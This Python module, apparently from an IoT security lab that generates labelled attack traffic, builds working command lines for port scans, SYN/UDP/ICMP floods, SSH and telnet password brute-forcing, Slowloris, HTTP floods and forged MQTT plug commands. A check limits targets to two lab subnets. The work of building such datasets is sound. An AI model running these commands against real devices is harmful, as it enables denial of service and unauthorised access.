"""Attacks by name, each run by a real tool from a Debian package from the attacker namespace.

Every attack is bounded: by a packet/request ``count`` where the tool has one, and always by
``duration`` seconds (the lab kills it then). Parameters come from the command line as
``name:target:key=value,key=value``; :data:`ATTACKS` lists each attack's keys and defaults.
"""

from __future__ import annotations

import ipaddress
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from jixiaoan.lab.deps import TELNET_TOOLS
from jixiaoan.lab.devices import CAMERA_PASSWORD, CAMERA_USER
from jixiaoan.lab.topology import TARGETS

#: Common passwords tried by the brute-force attacks (the camera's weak one comes last).
WORDLIST = (
    "123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
    "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
    "696969", "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890",
    "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "qazwsx",
    "root", "admin", "default", "guest", "support", "user", "camera", "ipcam",
)


@dataclass(frozen=True)
class Attack:
    """One attack: its label family, the programs it needs, its defaults and its command."""

    name: str
    family: str  # the `attack` column of labels.csv
    tools: tuple[str, ...]
    default_target: str
    defaults: dict[str, str] = field(default_factory=dict)
    build: Callable[[str, dict[str, str], Path], list[str]] = field(default=lambda *_: [])
    help: str = ""


def _interval_us(p: dict[str, str]) -> str:
    rate = float(p["rate"])
    if rate <= 0:
        raise ValueError("rate must be positive")
    return f"u{max(1, round(1e6 / rate))}"


def _hping(mode: list[str]) -> Callable[[str, dict[str, str], Path], list[str]]:
    def build(ip: str, p: dict[str, str], _work: Path) -> list[str]:
        return ["hping3", "-q", "-n", *mode, "-p", p["port"], "-d", p["size"],
                "-i", _interval_us(p), "-c", p["count"], ip]
    return build


def _wordlist(work: Path, size: int) -> Path:
    """``size`` guesses: the common passwords, then variants with digits appended, the
    camera's real password last."""
    base = [w for w in WORDLIST if w != CAMERA_PASSWORD]
    words = dict.fromkeys(base)  # ordered set: a variant may equal a common password
    suffix = 0
    while len(words) < size - 1:
        words.update(dict.fromkeys(f"{w}{suffix}" for w in base))
        suffix += 1
    words = list(words)
    words = words[: max(0, size - 1)] + [CAMERA_PASSWORD]
    path = work / "wordlist.txt"
    path.write_text("\n".join(words) + "\n")
    return path


def _hydra(ip: str, p: dict[str, str], work: Path) -> list[str]:
    return ["hydra", "-I", "-q", "-l", p["user"], "-P", str(_wordlist(work, int(p["words"]))),
            "-t", p["tasks"], "-W", p["wait"], "-f", f"ssh://{ip}:{p['port']}"]


def _telnet_brute(ip: str, p: dict[str, str], work: Path) -> list[str]:
    users = work / "users.txt"
    users.write_text(p["user"] + "\n")
    args = (f"userdb={users},passdb={_wordlist(work, int(p['words']))},brute.firstonly=true,"
            f"brute.threads={p['tasks']},unpwdb.timelimit={p['duration']}s")
    return ["nmap", "-n", "-Pn", "-p", p["port"], "--script", "telnet-brute", "--script-args",
            args, ip]


def _mqtt_abuse(ip: str, p: dict[str, str], _work: Path) -> list[str]:
    script = (
        f"mosquitto_sub -h {ip} -i evil-sub -t '#' -v -W {p['duration']} >/dev/null & "
        f"mosquitto_pub -h {ip} -i evil-pub -q 0 -t home/plug1/cmd -m off "
        f"--repeat {p['count']} --repeat-delay {1.0 / float(p['rate']):.4f}; "
        "sleep 1; kill %1; wait"
    )
    return ["bash", "-c", script]


ATTACKS: dict[str, Attack] = {a.name: a for a in (
    Attack("port-scan", "port-scan", ("nmap",), "camera",
           {"ports": "1-1024", "rate": "500", "duration": "30"},
           lambda ip, p, w: ["nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "1",
                             "--max-rate", p["rate"], "-p", p["ports"], ip],
           "nmap SYN scan of `ports` at most `rate` packets/s"),
    Attack("service-scan", "service-scan", ("nmap",), "camera",
           {"ports": "21-23,80,443,554,1883,8080", "duration": "90"},
           lambda ip, p, w: ["nmap", "-n", "-Pn", "-sV", "--version-light", "-p", p["ports"],
                             ip],
           "nmap version detection (-sV) of `ports`"),
    Attack("syn-flood", "syn-flood", ("hping3",), "camera",
           {"port": "80", "rate": "1000", "count": "5000", "size": "0", "duration": "30"},
           _hping(["-S"]), "hping3 TCP SYN flood, `count` packets at `rate`/s"),
    Attack("udp-flood", "udp-flood", ("hping3",), "camera",
           {"port": "53", "rate": "1000", "count": "5000", "size": "64", "duration": "30"},
           _hping(["--udp"]), "hping3 UDP flood, `count` datagrams of `size` bytes at `rate`/s"),
    Attack("icmp-flood", "icmp-flood", ("hping3",), "camera",
           {"port": "0", "rate": "1000", "count": "5000", "size": "56", "duration": "30"},
           _hping(["--icmp"]), "hping3 ICMP echo flood, `count` packets at `rate`/s"),
    Attack("ssh-bruteforce", "ssh-bruteforce", ("hydra",), "camera",
           {"user": CAMERA_USER, "words": "100", "tasks": "4", "wait": "0", "port": "22",
            "duration": "60"},
           _hydra, "hydra SSH password guessing: `words` guesses, `tasks` at a time"),
    Attack("telnet-bruteforce", "telnet-bruteforce", ("nmap", *TELNET_TOOLS), "camera",
           {"user": CAMERA_USER, "words": "20", "tasks": "4", "port": "23", "duration": "60"},
           _telnet_brute, "nmap telnet-brute against the camera's telnet login (needs "
           "tools/lab-deps.sh --with-telnet)"),
    Attack("slow-http", "slow-http", ("slowhttptest",), "camera",
           {"connections": "60", "rate": "20", "interval": "5", "duration": "20"},
           lambda ip, p, w: ["slowhttptest", "-H", "-c", p["connections"], "-r", p["rate"],
                             "-i", p["interval"], "-l", p["duration"], "-x", "24", "-p", "3",
                             "-u", f"http://{ip}/"],
           "slowhttptest Slowloris (slow headers), `connections` at `rate`/s"),
    Attack("http-flood", "http-flood", ("ab",), "camera",
           {"count": "2000", "concurrency": "10", "duration": "30"},
           lambda ip, p, w: ["ab", "-q", "-t", p["duration"], "-n", p["count"],
                             "-c", p["concurrency"], "-s", "5", f"http://{ip}/"],
           "ApacheBench GET flood, `count` requests `concurrency` at a time"),
    Attack("mqtt-abuse", "mqtt-abuse", ("mosquitto_pub", "mosquitto_sub"), "broker",
           {"count": "2000", "rate": "200", "duration": "20"},
           _mqtt_abuse, "wildcard (#) subscription plus a flood of forged plug commands"),
)}


def resolve_target(target: str) -> str:
    """Address of a target name (camera, plug, tv, phone, hotspot, web, dns, broker) or of a
    literal address inside the lab's networks."""
    if target in TARGETS:
        return TARGETS[target]
    try:
        ip = ipaddress.ip_address(target)
    except ValueError:
        raise ValueError(f"unknown target {target!r}; use one of {', '.join(TARGETS)} "
                         "or an address in 192.168.137.0/24 or 203.0.113.0/24") from None
    lab_nets = [ipaddress.ip_network("192.168.137.0/24"), ipaddress.ip_network("203.0.113.0/24")]
    if not any(ip in net for net in lab_nets):
        raise ValueError(f"target {target} is outside the lab networks")
    return str(ip)


def attack_command(name: str, target: str, params: dict[str, str], work: Path) -> list[str]:
    """The command line of attack ``name`` against ``target`` with ``params`` over defaults."""
    attack = ATTACKS[name]
    unknown = set(params) - set(attack.defaults)
    if unknown:
        raise ValueError(f"{name}: unknown parameter(s) {', '.join(sorted(unknown))}; "
                         f"known: {', '.join(attack.defaults)}")
    merged = {**attack.defaults, **params}
    return attack.build(resolve_target(target), merged, work)
